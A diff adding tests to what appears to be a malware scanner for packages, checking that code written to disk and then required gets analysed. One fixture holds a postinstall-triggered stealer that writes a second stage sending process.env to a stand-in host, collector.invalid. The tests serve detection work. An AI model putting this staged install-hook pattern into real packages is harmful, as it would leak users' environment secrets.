@@ -115,3 +115,26 @@ describe('dynamic-code stays quiet', () => {
     expect(r.verdict).toBe('clean');
   });
 });
+
+describe('dynamic-code: code written to a file and then run', () => {
+  test('a stealer written to disk and required is analyzed at the require', () => {
+    const r = scanFiles({
+      'package.json': manifest({ scripts: { postinstall: 'node index.js' } }),
+      'index.js': [
+        "const fs = require('fs'); const path = require('path');",
+        "const stage2 = \"require('https').request('https://collector.invalid').end(JSON.stringify(process.env))\";",
+        "const p = path.join(require('os').tmpdir(), 'stage2.js');",
+        'fs.writeFileSync(p, stage2);',
+        'require(p);',
+      ].join('\n'),
+    });
+    expect(r.of(RULE).map((f) => f.message)).toContainEqual(expect.stringContaining('stage2.js, which this file wrote'));
+    expect(r.of('exfiltration-flow')[0]?.message).toContain('in code decoded at index.js:5');
+    expect(r.verdict).toBe('malicious');
+  });
+
+  test('writing a generated config file and never running it is not dynamic code', () => {
+    const r = scanFiles({ 'index.js': "const fs = require('fs');\nfs.writeFileSync('out/config.js', 'module.exports = {};');\nconsole.log('done');" });
+    expect(r.of(RULE)).toEqual([]);
+  });
+});
